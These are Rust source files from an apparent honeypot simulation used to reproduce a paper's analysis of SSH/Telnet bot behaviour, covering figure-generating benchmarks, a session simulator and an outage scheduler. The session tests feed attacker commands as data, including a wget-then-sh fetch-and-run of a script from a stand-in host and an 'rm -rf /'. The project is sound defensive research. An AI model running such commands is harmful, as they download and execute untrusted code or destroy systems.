        let cdf = ecdf(&[1.0, 1.0, 2.0, 4.0]);
        assert_eq!(cdf, vec![(1.0, 0.5), (2.0, 0.75), (4.0, 1.0)]);
    }
}
