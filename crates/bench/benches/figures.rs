//! One benchmark per paper artefact: each regenerates a table or figure's
//! data from the shared dataset, printing the headline rows once so a
//! `cargo bench` run doubles as a reproduction log.

use criterion::{criterion_group, criterion_main, Criterion};
use honeylab_bench::{dataset, generate_bench_config, BENCH_SCALE};
use honeylab_core::classify::Classifier;
use honeylab_core::taxonomy::TaxonomyStats;
use honeylab_core::{cluster, logins, mdrfckr, report, storage_analysis as sa};
use std::hint::black_box;
use std::sync::OnceLock;

fn classifier() -> &'static Classifier {
    static CL: OnceLock<Classifier> = OnceLock::new();
    CL.get_or_init(Classifier::table1)
}

fn bench_generate(c: &mut Criterion) {
    // Dataset generation itself (the honeynet + attacker ecosystem).
    let mut g = c.benchmark_group("generate");
    g.sample_size(10);
    let cfg = generate_bench_config();
    g.bench_function("dataset_1_to_20000", |b| {
        b.iter(|| black_box(botnet::generate_dataset(&cfg).sessions.len()))
    });
    g.finish();
}

fn bench_dataset_stats(c: &mut Criterion) {
    let ds = dataset();
    let stats = TaxonomyStats::compute(&ds.sessions);
    println!("{}", report::render_dataset_stats(&stats, BENCH_SCALE));
    c.bench_function("table_dataset_stats", |b| {
        b.iter(|| black_box(TaxonomyStats::compute(&ds.sessions)))
    });
}

fn bench_fig01(c: &mut Criterion) {
    let ds = dataset();
    let f = report::fig1(&ds.sessions);
    println!("{}", report::render_fig1(&f));
    c.bench_function("fig01_state_split", |b| {
        b.iter(|| black_box(report::fig1(&ds.sessions)))
    });
}

fn bench_fig02(c: &mut Criterion) {
    let ds = dataset();
    let f = report::fig2(&ds.sessions, classifier());
    println!("{}", f.render("Fig 2: non-state-changing bots", 4));
    c.bench_function("fig02_scout_categories", |b| {
        b.iter(|| black_box(report::fig2(&ds.sessions, classifier())))
    });
}

fn bench_fig03(c: &mut Criterion) {
    let ds = dataset();
    println!(
        "{}",
        report::fig3a(&ds.sessions, classifier()).render("Fig 3a: file mod, no exec", 4)
    );
    println!(
        "{}",
        report::fig3b(&ds.sessions, classifier()).render("Fig 3b: exec attempts", 4)
    );
    c.bench_function("fig03_state_change_categories", |b| {
        b.iter(|| {
            black_box(report::fig3a(&ds.sessions, classifier()));
            black_box(report::fig3b(&ds.sessions, classifier()));
        })
    });
}

fn bench_fig04(c: &mut Criterion) {
    let ds = dataset();
    let (exists, missing) = report::fig4(&ds.sessions, classifier());
    println!("{}", exists.render("Fig 4a: exec, file exists", 3));
    println!("{}", missing.render("Fig 4b: exec, file missing", 3));
    c.bench_function("fig04_file_exists_missing", |b| {
        b.iter(|| black_box(report::fig4(&ds.sessions, classifier())))
    });
}

fn bench_fig05_06(c: &mut Criterion) {
    let ds = dataset();
    let ca = report::cluster_analysis(&ds.sessions, &ds.abuse, 90, 42);
    println!(
        "Fig 5/6: {} signatures, k={}",
        ca.signatures.len(),
        ca.clustering.k()
    );
    println!("{}", report::render_fig5(&ca, 8));
    println!("Top clusters (Fig 6):");
    for (cix, n) in ca.top_clusters(5) {
        println!(
            "  C-{} ({}) {} sessions",
            ca.display_rank(cix),
            ca.labels[cix],
            n
        );
    }
    let mut g = c.benchmark_group("fig05_06");
    g.sample_size(10);
    g.bench_function("clustering_k90", |b| {
        b.iter(|| black_box(report::cluster_analysis(&ds.sessions, &ds.abuse, 90, 42)))
    });
    g.finish();
}

fn bench_fig07(c: &mut Criterion) {
    let ds = dataset();
    let events = sa::download_events(&ds.sessions);
    for f in sa::sankey_flows(&events, &ds.world.registry) {
        println!(
            "Fig 7: {:>8} -> {:<8} {:>7} events ({} same-IP)",
            f.client_type.label(),
            f.storage_type.label(),
            f.events,
            f.same_ip
        );
    }
    c.bench_function("fig07_sankey", |b| {
        b.iter(|| black_box(sa::sankey_flows(&events, &ds.world.registry)))
    });
}

fn bench_fig08(c: &mut Criterion) {
    let ds = dataset();
    let events = sa::download_events(&ds.sessions);
    let age = sa::as_age_by_month(&events, &ds.world.registry);
    let size = sa::as_size_by_month(&events, &ds.world.registry);
    let (mut y, mut m5, mut o) = (0u64, 0u64, 0u64);
    for v in age.values() {
        y += v[0];
        m5 += v[1];
        o += v[2];
    }
    let total = (y + m5 + o).max(1) as f64;
    println!(
        "Fig 8a: <1y {:.0}%  1-5y {:.0}%  >5y {:.0}% (paper: >35% / >70% cumulative)",
        100.0 * y as f64 / total,
        100.0 * m5 as f64 / total,
        100.0 * o as f64 / total
    );
    let (mut one, mut small, mut big) = (0u64, 0u64, 0u64);
    for v in size.values() {
        one += v[0];
        small += v[1];
        big += v[2];
    }
    let total = (one + small + big).max(1) as f64;
    println!(
        "Fig 8b: one /24 {:.0}%  <50 {:.0}%  >=50 {:.0}% (paper: ~20% / ~50% cumulative)",
        100.0 * one as f64 / total,
        100.0 * small as f64 / total,
        100.0 * big as f64 / total
    );
    c.bench_function("fig08_as_age_size", |b| {
        b.iter(|| {
            black_box(sa::as_age_by_month(&events, &ds.world.registry));
            black_box(sa::as_size_by_month(&events, &ds.world.registry));
        })
    });
}

fn bench_fig09(c: &mut Criterion) {
    let ds = dataset();
    let events = sa::successful_download_events(&ds.sessions);
    let cfg = &ds.config;
    for recall in [7i64, 28, 365] {
        let rows = sa::reuse_buckets_by_week(&events, recall, cfg.window_start, cfg.window_end);
        let mut agg = vec![0u64; sa::FIG9_BUCKETS.len()];
        for (_, counts) in &rows {
            for (i, v) in counts.iter().enumerate() {
                agg[i] += v;
            }
        }
        let total: u64 = agg.iter().sum::<u64>().max(1);
        println!(
            "Fig 9 (recall {recall:>3}d): <=1d {:.0}%  <=4d {:.0}%  <=1w {:.0}%  rest {:.0}%",
            100.0 * agg[0] as f64 / total as f64,
            100.0 * agg[1] as f64 / total as f64,
            100.0 * agg[2] as f64 / total as f64,
            100.0 * agg[3..].iter().sum::<u64>() as f64 / total as f64,
        );
    }
    println!(
        "Fig 9: >=6mo reappearance {:.0}% (paper: ~25%)",
        sa::long_reappearance_frac(&events) * 100.0
    );
    c.bench_function("fig09_ip_reuse", |b| {
        b.iter(|| {
            black_box(sa::reuse_buckets_by_week(
                &events,
                7,
                cfg.window_start,
                cfg.window_end,
            ))
        })
    });
}

fn bench_fig10(c: &mut Criterion) {
    let ds = dataset();
    let top = logins::top_passwords(&ds.sessions, 5);
    println!("Fig 10: top passwords: {:?}", top.passwords);
    let p = logins::password_profile(&ds.sessions, "3245gs5662d34");
    println!(
        "  3245gs5662d34: {} sessions, {} IPs, first {}",
        p.sessions,
        p.unique_ips,
        p.first_seen.map(|t| t.label()).unwrap_or_default()
    );
    c.bench_function("fig10_top_passwords", |b| {
        b.iter(|| black_box(logins::top_passwords(&ds.sessions, 5)))
    });
}

fn bench_fig11(c: &mut Criterion) {
    let ds = dataset();
    let probes = logins::cowrie_default_probes(&ds.sessions);
    println!(
        "Fig 11: phil={} richard={} unique-ips={} quiet={:.0}%",
        probes.phil_success.values().sum::<u64>(),
        probes.richard_tries.values().sum::<u64>(),
        probes.phil_unique_ips,
        probes.phil_no_command_frac * 100.0
    );
    c.bench_function("fig11_cowrie_defaults", |b| {
        b.iter(|| black_box(logins::cowrie_default_probes(&ds.sessions)))
    });
}

fn bench_fig12_13(c: &mut Criterion) {
    let ds = dataset();
    let tl = mdrfckr::timeline(&ds.sessions);
    let dips = mdrfckr::detect_dips(&tl, 0.12);
    println!(
        "Fig 12: mdrfckr {} sessions over {} days; {} dips detected (paper: 8 windows)",
        tl.daily.values().map(|(n, _)| n).sum::<u64>(),
        tl.daily.len(),
        dips.len()
    );
    let vs = mdrfckr::variant_series(&ds.sessions);
    let first_variant = vs.monthly.iter().find(|(_, v)| v[1] > 0).map(|(m, _)| *m);
    println!(
        "Fig 13: variant first seen {:?} (paper: 2022-12); cred overlap {:.1}%",
        first_variant.map(|m| m.label()),
        mdrfckr::cred_overlap_frac(&ds.sessions) * 100.0
    );
    c.bench_function("fig12_13_mdrfckr", |b| {
        b.iter(|| {
            let tl = mdrfckr::timeline(&ds.sessions);
            black_box(mdrfckr::detect_dips(&tl, 0.12));
            black_box(mdrfckr::variant_series(&ds.sessions));
        })
    });
}

fn bench_fig14(c: &mut Criterion) {
    let ds = dataset();
    let f = report::fig14(&ds.sessions, classifier(), 8);
    println!(
        "Fig 14: {} categories in the inter-category DLD matrix",
        f.labels.len()
    );
    c.bench_function("fig14_intercategory_dld", |b| {
        b.iter(|| black_box(report::fig14(&ds.sessions, classifier(), 8)))
    });
}

fn bench_fig15_16_17(c: &mut Criterion) {
    let ds = dataset();
    if let Some(snip) = report::fig15_snippet(&ds.sessions) {
        println!("Fig 15: {snip}");
    }
    let f16 = report::fig16(&ds.sessions);
    let (e, m): (u64, u64) = f16
        .values()
        .fold((0, 0), |acc, (a, b)| (acc.0 + a, acc.1 + b));
    println!("Fig 16: unique exec commands — exists {e}, missing {m}");
    let events = sa::download_events(&ds.sessions);
    let f17 = sa::as_type_by_month(&events, &ds.world.registry);
    let mut tot = [0u64; 4];
    for v in f17.values() {
        for i in 0..4 {
            tot[i] += v[i];
        }
    }
    println!(
        "Fig 17: CDN={} Hosting={} ISP/NSP={} Other={}",
        tot[0], tot[1], tot[2], tot[3]
    );
    c.bench_function("fig15_16_17_appendices", |b| {
        b.iter(|| {
            black_box(report::fig16(&ds.sessions));
            black_box(sa::as_type_by_month(&events, &ds.world.registry));
        })
    });
}

fn bench_table1(c: &mut Criterion) {
    let ds = dataset();
    let cov = report::classification_coverage(&ds.sessions, classifier());
    println!(
        "Table 1: classification coverage {:.2}% (paper: >99%)",
        cov * 100.0
    );
    let texts: Vec<String> = report::command_sessions(&ds.sessions)
        .iter()
        .take(2_000)
        .map(|s| s.command_text())
        .collect();
    c.bench_function("table1_classify_2k_sessions", |b| {
        b.iter(|| {
            let cl = classifier();
            let mut known = 0usize;
            for t in &texts {
                if cl.classify(t) != honeylab_core::UNKNOWN_LABEL {
                    known += 1;
                }
            }
            black_box(known)
        })
    });
}

fn bench_elbow(c: &mut Criterion) {
    let ds = dataset();
    let ca = report::cluster_analysis(&ds.sessions, &ds.abuse, 2, 42);
    let m = cluster::DistanceMatrix::build(&ca.signatures);
    let sweep = cluster::sweep_k(&m, &ca.weights, &[10, 30, 60, 90, 120], 42);
    for (k, w, s) in &sweep {
        println!("elbow sweep: k={k:<4} wcss={w:>12.1} silhouette={s:.3}");
    }
    let wcss_pts: Vec<(usize, f64)> = sweep.iter().map(|(k, w, _)| (*k, *w)).collect();
    println!("elbow pick: k={}", cluster::select_k_elbow(&wcss_pts));
    let mut g = c.benchmark_group("cluster_selection");
    g.sample_size(10);
    g.bench_function("k_sweep", |b| {
        b.iter(|| black_box(cluster::sweep_k(&m, &ca.weights, &[30, 90], 42)))
    });
    g.finish();
}

criterion_group!(
    figures,
    bench_generate,
    bench_dataset_stats,
    bench_fig01,
    bench_fig02,
    bench_fig03,
    bench_fig04,
    bench_fig05_06,
    bench_fig07,
    bench_fig08,
    bench_fig09,
    bench_fig10,
    bench_fig11,
    bench_fig12_13,
    bench_fig14,
    bench_fig15_16_17,
    bench_table1,
    bench_elbow,
);
criterion_main!(figures);
