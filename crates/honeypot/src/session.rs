//! Session simulation: turns one attacker script into one
//! [`SessionRecord`] using the same auth policy and shell emulator as the
//! wire path, with timing from the latency model.
//!
//! This is the bulk path: the 33-month driver calls it hundreds of
//! thousands of times, so it skips byte-level SSH framing. The `wire`
//! module runs the identical policy over real `sshwire` dialogues, and an
//! integration test pins both paths to identical records.

use crate::auth::AuthPolicy;
use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
use crate::shell::{RemoteStore, Shell};
use hutil::DateTime;
use netsim::latency::LatencyModel;
use netsim::tcp::IDLE_TIMEOUT_SECS;
use netsim::Ipv4Addr;

/// Everything the attacker side decides about a session.
#[derive(Debug, Clone)]
pub struct SessionInput {
    /// Target sensor id.
    pub honeypot_id: u16,
    /// Target sensor address.
    pub honeypot_ip: Ipv4Addr,
    /// Source address.
    pub client_ip: Ipv4Addr,
    /// Source port.
    pub client_port: u16,
    /// SSH or Telnet.
    pub protocol: Protocol,
    /// Handshake completion instant.
    pub start: DateTime,
    /// Client identification string (SSH only).
    pub client_version: Option<String>,
    /// Credential attempts in order; the engine stops at the first accept.
    pub logins: Vec<(String, String)>,
    /// Command lines to execute after a successful login.
    pub commands: Vec<String>,
    /// If true the client goes silent after its last action instead of
    /// closing, so the honeypot's 3-minute idle timer ends the session.
    pub idle_out: bool,
}

/// The session engine: honeypot policy + remote-content store + timing.
pub struct SessionSim<'s> {
    policy: AuthPolicy,
    store: &'s dyn RemoteStore,
    latency: LatencyModel,
}

impl<'s> SessionSim<'s> {
    /// Creates an engine.
    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore, latency: LatencyModel) -> Self {
        Self {
            policy,
            store,
            latency,
        }
    }

    /// Runs one session to completion.
    pub fn run(&self, input: SessionInput) -> SessionRecord {
        let mut now = input.start;
        let mut logins = Vec::with_capacity(input.logins.len());
        let mut authenticated = false;
        for (round, (user, pass)) in input.logins.iter().enumerate() {
            now = now.plus_secs(
                self.latency
                    .rtt_ms(input.client_ip, input.honeypot_ip, round as u32)
                    as i64
                    / 1000
                    + 1,
            );
            let success = self.policy.accept(user, pass);
            logins.push(LoginAttempt {
                username: user.clone(),
                password: pass.clone(),
                success,
            });
            if success {
                authenticated = true;
                break;
            }
        }

        let mut commands = Vec::new();
        let mut uris = Vec::new();
        let mut file_events = Vec::new();
        if authenticated && !input.commands.is_empty() {
            let mut shell = Shell::new(self.store);
            for (i, line) in input.commands.iter().enumerate() {
                now = now.plus_secs(self.latency.command_secs(
                    input.client_ip,
                    input.honeypot_ip,
                    i as u32 + 1,
                ));
                let outcome = shell.exec_line(line);
                commands.push(CommandRecord {
                    input: line.clone(),
                    known: outcome.known,
                });
            }
            let (u, f) = shell.take_observations();
            uris = u;
            file_events = f;
        }

        let (end, end_reason) = if input.idle_out {
            (now.plus_secs(IDLE_TIMEOUT_SECS), SessionEndReason::Timeout)
        } else {
            (now.plus_secs(1), SessionEndReason::ClientClose)
        };

        SessionRecord {
            session_id: 0, // assigned by the collector
            honeypot_id: input.honeypot_id,
            honeypot_ip: input.honeypot_ip,
            client_ip: input.client_ip,
            client_port: input.client_port,
            protocol: input.protocol,
            start: input.start,
            end,
            end_reason,
            client_version: input.client_version,
            logins,
            commands,
            uris,
            file_events,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{FileOp, Protocol};
    use crate::shell::NullStore;
    use hutil::Date;

    fn engine(store: &dyn RemoteStore) -> SessionSim<'_> {
        SessionSim::new(AuthPolicy::default(), store, LatencyModel::new(5))
    }

    fn input() -> SessionInput {
        SessionInput {
            honeypot_id: 3,
            honeypot_ip: Ipv4Addr::from_octets(100, 64, 0, 3),
            client_ip: Ipv4Addr::from_octets(10, 1, 2, 3),
            client_port: 40123,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 5, 10).at(4, 30, 0),
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![],
            commands: vec![],
            idle_out: false,
        }
    }

    #[test]
    fn scanning_session_has_no_logins() {
        let st = NullStore;
        let rec = engine(&st).run(input());
        assert!(rec.logins.is_empty());
        assert!(!rec.login_succeeded());
        assert!(rec.commands.is_empty());
        assert!(rec.duration_secs() >= 1);
    }

    #[test]
    fn scouting_session_fails_all_attempts() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![
            ("admin".into(), "admin".into()),
            ("root".into(), "root".into()),
        ];
        let rec = engine(&st).run(inp);
        assert_eq!(rec.logins.len(), 2);
        assert!(!rec.login_succeeded());
    }

    #[test]
    fn intrusion_stops_at_first_success() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![
            ("root".into(), "root".into()),
            ("root".into(), "admin".into()),
            ("root".into(), "never-tried".into()),
        ];
        let rec = engine(&st).run(inp);
        assert_eq!(rec.logins.len(), 2, "stop after the first accept");
        assert_eq!(rec.accepted_password(), Some("admin"));
        assert!(rec.commands.is_empty());
    }

    #[test]
    fn command_execution_records_shell_observations() {
        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
        let mut inp = input();
        inp.logins = vec![("root".into(), "1234".into())];
        inp.commands = vec![
            "cd /tmp".into(),
            "wget http://203.0.113.5/x.sh".into(),
            "sh x.sh".into(),
        ];
        let rec = engine(&fetch).run(inp);
        assert_eq!(rec.commands.len(), 3);
        assert!(rec.commands.iter().all(|c| c.known));
        assert_eq!(rec.uris, vec!["http://203.0.113.5/x.sh"]);
        assert!(rec.changes_state());
        assert!(rec.attempts_exec());
        assert_eq!(rec.exec_hashes().count(), 1);
        assert!(rec.end > rec.start);
    }

    #[test]
    fn commands_are_not_run_without_auth() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![("root".into(), "root".into())];
        inp.commands = vec!["rm -rf /".into()];
        let rec = engine(&st).run(inp);
        assert!(rec.commands.is_empty());
        assert!(rec.file_events.is_empty());
    }

    #[test]
    fn idle_out_sets_timeout_end() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![("root".into(), "x".into())];
        inp.idle_out = true;
        let rec = engine(&st).run(inp);
        assert_eq!(rec.end_reason, SessionEndReason::Timeout);
        assert!(rec.duration_secs() >= IDLE_TIMEOUT_SECS);
    }

    #[test]
    fn deterministic_given_same_input() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![("root".into(), "pw".into())];
        inp.commands = vec!["uname -a".into()];
        let a = engine(&st).run(inp.clone());
        let b = engine(&st).run(inp);
        assert_eq!(a.end, b.end);
        assert_eq!(a.commands, b.commands);
    }

    #[test]
    fn missing_exec_marker_flows_through() {
        let st = NullStore;
        let mut inp = input();
        inp.logins = vec![("root".into(), "pw".into())];
        inp.commands = vec!["chmod +x /tmp/scp_dropped; /tmp/scp_dropped".into()];
        let rec = engine(&st).run(inp);
        assert!(rec.has_missing_exec());
        assert!(!rec.changes_state());
        assert!(matches!(
            rec.file_events[0].op,
            FileOp::ExecAttempt { sha256: None }
        ));
    }
}
