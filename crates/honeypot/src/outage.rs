//! Sensor outage schedules.
//!
//! The paper's honeynet did not run uninterrupted: the whole fleet was
//! down for 48 hours of maintenance in October 2023, and any long-running
//! deployment additionally loses individual sensors to crashes, network
//! partitions and flapping links. An [`OutageSchedule`] captures both
//! kinds of downtime as explicit time windows — one fleet-wide list plus
//! one list per sensor — generated up front from a seed, so the generator,
//! the collector and the coverage-aware reporting all agree on exactly
//! when each sensor was observable.
//!
//! The historical 2023-10-08/09 maintenance window is not special-cased
//! anywhere downstream: it is one scheduled fleet-wide instance like any
//! other, produced by every builder whose config keeps
//! `include_maintenance` set.

use crate::fleet::{maintenance_end, maintenance_start};
use hutil::rng::SeedTree;
use hutil::{Date, DateTime};
use netsim::faults::OutageSampler;
use rand::Rng;

/// A half-open downtime window `[start, end)`.
pub type Window = (DateTime, DateTime);

/// Knobs for seeded schedule generation.
#[derive(Debug, Clone)]
pub struct OutageConfig {
    /// Target long-run fraction of per-sensor time down (beyond fleet-wide
    /// windows). Zero disables individual outages entirely.
    pub downtime_frac: f64,
    /// Mean length of one ordinary sensor outage, in hours.
    pub mean_outage_hours: f64,
    /// Fraction of sensors that *flap*: same downtime budget, but spent in
    /// many short outages instead of a few long ones.
    pub flap_frac: f64,
    /// Whether the fleet-wide 2023-10-08/09 maintenance window is part of
    /// the schedule (it is in the paper's deployment).
    pub include_maintenance: bool,
}

impl OutageConfig {
    /// The paper's deployment: no modelled per-sensor downtime, just the
    /// documented maintenance window.
    pub fn maintenance_only() -> Self {
        Self {
            downtime_frac: 0.0,
            mean_outage_hours: 0.0,
            flap_frac: 0.0,
            include_maintenance: true,
        }
    }

    /// A degraded deployment: ≥10 % of sensor-days lost to individual
    /// outages, a tenth of the fleet flapping, on top of maintenance.
    pub fn degraded() -> Self {
        Self {
            downtime_frac: 0.12,
            mean_outage_hours: 36.0,
            flap_frac: 0.1,
            include_maintenance: true,
        }
    }
}

/// When every sensor was down, fleet-wide and individually.
#[derive(Debug, Clone)]
pub struct OutageSchedule {
    start: Date,
    end: Date,
    fleet: Vec<Window>,
    per_sensor: Vec<Vec<Window>>,
}

impl OutageSchedule {
    /// The paper's schedule over `[start, end]`: the maintenance window
    /// and nothing else.
    pub fn maintenance_only(n_sensors: usize, start: Date, end: Date) -> Self {
        Self::seeded(&OutageConfig::maintenance_only(), n_sensors, start, end, 0)
    }

    /// Generates a schedule from a seed. Per-sensor outage timelines are
    /// drawn from independent labelled streams, so the schedule for sensor
    /// `i` does not depend on the fleet size.
    pub fn seeded(cfg: &OutageConfig, n_sensors: usize, start: Date, end: Date, seed: u64) -> Self {
        let span_start = start.at_midnight();
        let span_end = end.plus_days(1).at_midnight();
        let mut fleet = Vec::new();
        if cfg.include_maintenance
            && maintenance_start() < span_end
            && maintenance_end() > span_start
        {
            fleet.push((
                maintenance_start().max(span_start),
                maintenance_end().min(span_end),
            ));
        }
        let horizon = span_end.secs_since(span_start).max(0) as u64;
        let mut per_sensor = vec![Vec::new(); n_sensors];
        if cfg.downtime_frac > 0.0 && horizon > 0 {
            let seeds = SeedTree::new(seed);
            let ordinary = OutageSampler::from_downtime(
                cfg.downtime_frac.min(0.95),
                (cfg.mean_outage_hours * 3600.0).max(3600.0),
            );
            // Flappers: same unavailability, 1/24th the outage length.
            let flapping = OutageSampler {
                mean_up_secs: ordinary.mean_up_secs / 24.0,
                mean_down_secs: ordinary.mean_down_secs / 24.0,
            };
            for (i, windows) in per_sensor.iter_mut().enumerate() {
                let mut rng = seeds.rng(&format!("sensor-{i}"));
                let sampler = if rng.random::<f64>() < cfg.flap_frac {
                    flapping
                } else {
                    ordinary
                };
                *windows = sampler
                    .sample_windows(horizon, &mut rng)
                    .into_iter()
                    .map(|(a, b)| {
                        (
                            span_start.plus_secs(a as i64),
                            span_start.plus_secs(b as i64),
                        )
                    })
                    .collect();
            }
        }
        Self {
            start,
            end,
            fleet,
            per_sensor,
        }
    }

    /// First scheduled day.
    pub fn span_start(&self) -> Date {
        self.start
    }

    /// Last scheduled day (inclusive).
    pub fn span_end(&self) -> Date {
        self.end
    }

    /// Number of sensors covered.
    pub fn n_sensors(&self) -> usize {
        self.per_sensor.len()
    }

    /// Fleet-wide downtime windows, sorted.
    pub fn fleet_windows(&self) -> &[Window] {
        &self.fleet
    }

    /// Individual downtime windows of one sensor, sorted.
    pub fn sensor_windows(&self, sensor: u16) -> &[Window] {
        self.per_sensor
            .get(sensor as usize)
            .map_or(&[], Vec::as_slice)
    }

    /// Whether `sensor` records sessions at `t`. Sensors the schedule does
    /// not know about are only subject to fleet-wide windows.
    pub fn is_up(&self, sensor: u16, t: DateTime) -> bool {
        let down = |w: &[Window]| w.iter().any(|(s, e)| t >= *s && t < *e);
        !down(&self.fleet) && !down(self.sensor_windows(sensor))
    }

    /// Seconds of `day` during which `sensor` was down (union of fleet and
    /// individual windows, clipped to the day).
    pub fn down_secs_on(&self, sensor: u16, day: Date) -> i64 {
        let day_start = day.at_midnight();
        let day_end = day.plus_days(1).at_midnight();
        let mut clipped: Vec<(i64, i64)> = self
            .fleet
            .iter()
            .chain(self.sensor_windows(sensor))
            .filter_map(|(s, e)| {
                let a = s.secs_since(day_start).max(0);
                let b = e.secs_since(day_start).min(day_end.secs_since(day_start));
                (b > a).then_some((a, b))
            })
            .collect();
        clipped.sort_unstable();
        let mut total = 0i64;
        let mut cursor = 0i64;
        for (a, b) in clipped {
            let a = a.max(cursor);
            if b > a {
                total += b - a;
                cursor = b;
            }
        }
        total
    }

    /// Sensor-seconds of downtime across the whole fleet on `day`.
    pub fn down_sensor_secs(&self, day: Date) -> i64 {
        (0..self.per_sensor.len() as u16)
            .map(|i| self.down_secs_on(i, day))
            .sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn span() -> (Date, Date) {
        (Date::new(2021, 12, 1), Date::new(2024, 8, 31))
    }

    #[test]
    fn maintenance_only_schedule_matches_documented_window() {
        let (s, e) = span();
        let sched = OutageSchedule::maintenance_only(221, s, e);
        assert_eq!(sched.fleet_windows().len(), 1);
        assert_eq!(
            sched.fleet_windows()[0],
            (maintenance_start(), maintenance_end())
        );
        for sensor in [0u16, 100, 220] {
            assert!(sched.is_up(sensor, Date::new(2023, 10, 7).at(23, 59, 59)));
            assert!(!sched.is_up(sensor, Date::new(2023, 10, 8).at_midnight()));
            assert!(!sched.is_up(sensor, Date::new(2023, 10, 9).at(23, 59, 59)));
            assert!(sched.is_up(sensor, Date::new(2023, 10, 10).at_midnight()));
            assert!(sched.sensor_windows(sensor).is_empty());
        }
        assert_eq!(sched.down_secs_on(0, Date::new(2023, 10, 8)), 86_400);
        assert_eq!(sched.down_secs_on(0, Date::new(2023, 10, 10)), 0);
    }

    #[test]
    fn seeded_schedule_hits_downtime_target_and_is_deterministic() {
        let (s, e) = span();
        let cfg = OutageConfig::degraded();
        let a = OutageSchedule::seeded(&cfg, 50, s, e, 11);
        let b = OutageSchedule::seeded(&cfg, 50, s, e, 11);
        let total_secs = (e.days_since(s) + 1) * 86_400;
        let mut down = 0i64;
        for i in 0..50u16 {
            assert_eq!(a.sensor_windows(i), b.sensor_windows(i));
            down += a
                .sensor_windows(i)
                .iter()
                .map(|(x, y)| y.secs_since(*x))
                .sum::<i64>();
        }
        let frac = down as f64 / (total_secs * 50) as f64;
        assert!((0.08..0.17).contains(&frac), "downtime fraction {frac}");
    }

    #[test]
    fn sensor_streams_do_not_depend_on_fleet_size() {
        let (s, e) = span();
        let cfg = OutageConfig::degraded();
        let small = OutageSchedule::seeded(&cfg, 10, s, e, 5);
        let large = OutageSchedule::seeded(&cfg, 200, s, e, 5);
        for i in 0..10u16 {
            assert_eq!(small.sensor_windows(i), large.sensor_windows(i));
        }
    }

    #[test]
    fn down_secs_unions_overlapping_windows() {
        let (s, e) = span();
        let cfg = OutageConfig::degraded();
        let sched = OutageSchedule::seeded(&cfg, 30, s, e, 3);
        // Maintenance days: every sensor is fully down regardless of its
        // individual windows (no double counting past the day length).
        for i in 0..30u16 {
            assert_eq!(sched.down_secs_on(i, Date::new(2023, 10, 8)), 86_400);
        }
        assert_eq!(sched.down_sensor_secs(Date::new(2023, 10, 9)), 30 * 86_400);
    }

    #[test]
    fn unknown_sensor_follows_fleet_windows_only() {
        let (s, e) = span();
        let sched = OutageSchedule::maintenance_only(3, s, e);
        assert!(!sched.is_up(9999, Date::new(2023, 10, 8).at(1, 0, 0)));
        assert!(sched.is_up(9999, Date::new(2022, 1, 1).at(1, 0, 0)));
    }
}
